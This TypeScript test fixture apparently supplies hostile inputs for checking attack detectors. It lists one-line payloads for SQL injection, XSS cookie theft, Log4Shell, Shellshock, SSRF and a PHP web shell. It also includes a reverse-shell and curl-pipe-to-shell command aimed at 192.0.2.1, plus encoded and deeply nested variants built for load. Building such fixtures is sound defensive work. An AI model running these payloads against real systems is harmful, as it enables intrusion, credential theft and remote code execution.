/** An attack of each kind, for the grammars that detectors read. */
export const ATTACKS: readonly string[] = [
  "1' or '1'='1' union all select null,concat(user,0x3a,password),null from users where 'a'='a'-- -",
  "1; exec xp_cmdshell('ping 192.0.2.1'); waitfor delay '0:0:10'/*",
  '"><svg/onload=eval(atob(`YWxlcnQoMSk=`))><img src=x onerror="javascript:alert(document.cookie)">',
  '<a href="&#106;&#97;&#x76;ascript:alert(1)" style="width:expression(alert(1))">',
  ';cat${IFS}/etc/passwd|nc -e /bin/sh 192.0.2.1 4444;$(curl http://192.0.2.1/x|sh)`id`&&w\'h\'o""ami',
  '..%252f..%c0%af..%255c....//....\\\\etc/passwd%00.png',
  'php://filter/convert.base64-encode/resource=../../config.php',
  '*)(uid=*))(|(uid=*)(&(objectClass=*',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % b SYSTEM "http://192.0.2.1/x.dtd">%b;<!ENTITY c "&d;&d;&d;">]><a>&c;</a>',
  'http://0x7f.1:80@[::ffff:169.254.169.254]/latest/meta-data/?u=gopher://127.1:6379/_FLUSHALL',
  '<?php system($_GET["c"]);eval(base64_decode("cGhwaW5mbygpOw=="));?>',
  '{"$where":"sleep(1000)","password":{"$gt":"","$regex":"^(a+)+$"}}',
  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}{%for c in [].__class__.__base__.__subclasses__()%}{{c}}{%endfor%}',
  'x\r\nSet-Cookie: a=b\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>',
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"a":1}}}',
  'O:8:"Exploit":1:{s:4:"code";s:10:"phpinfo();";}rO0ABXNyABdqYXZhLnV0aWwuSGFzaE1hcA==',
  '${${lower:j}${::-n}di:${lower:l}dap://${env:X:-192.0.2.1}/a}',
  "() { :;}; /bin/bash -c 'cat /etc/passwd'",
];

/** What somebody who reads ahead, or back, reads over and over when it is repeated. */
const PIECES: readonly string[] = [
  "'", '"', '`', '<', '<a ', '<!--', '</', '&#', '&#x4', '|', '; ', '(', '((a=', '[', '{', '{{', '{%', '${', '$(', '%', '%25', '%u00', '%c0%ae',
  '\\', '\\u00', '\\x4', '=', '*', '/*', '--', ' ', '\t', 'a', '1,', '../', '/', '://', '@', 'on', 'onx=', "' or ", 'union ', 'select(', 'exec ',
  'a.b.', 'javascript:', 'http://a@', 'O:1:"', '<?', '{"$', '${jndi', 'a=b;', '0x41', 'YWFh', 'ＳＥＬＥＣＴ', '\u200b', 'é', '\u0001',
]; // prettier-ignore

const LONG = 64 * 1024;
const repeat = (piece: string, length: number): string =>
  piece.repeat(Math.ceil(length / piece.length)).slice(0, length);

/** The same text in layers of an encoding. */
function wrapped(text: string, layers: number, wrap: (text: string) => string): string {
  let inner = text;
  for (let layer = 0; layer < layers && inner.length < LONG; layer++) inner = wrap(inner);
  return inner;
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Texts that are as much work as their length allows. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...ATTACKS,
  ...ATTACKS.map((attack) => attack.repeat(100)),
  ...ATTACKS.map((attack) => repeat(`${attack} harmless words in between, as many as they need to be. `, LONG)),
  ...ATTACKS.map((attack) => wrapped(attack, 6, base64)),
  ...ATTACKS.map((attack) => wrapped(attack, 4, encodeURIComponent)),
  ...PIECES.map((piece) => repeat(piece, LONG)),
];

/** Values of JSON that are as much work as their number and depth allow. */
export const HOSTILE_JSON: readonly string[] = [
  `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  `${'{"a":'.repeat(15_000)}1${'}'.repeat(15_000)}`,
  JSON.stringify(Array.from({ length: 15_000 }, (_, index) => index)),
  JSON.stringify(Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => [`key ${index}' or '`, "' or 1"]))),
  JSON.stringify(Array.from({ length: 900 }, () => ATTACKS[0])),
  JSON.stringify({ nested: wrapped('{"a":"<script>"}', 8, (text) => JSON.stringify({ text })) }),
];
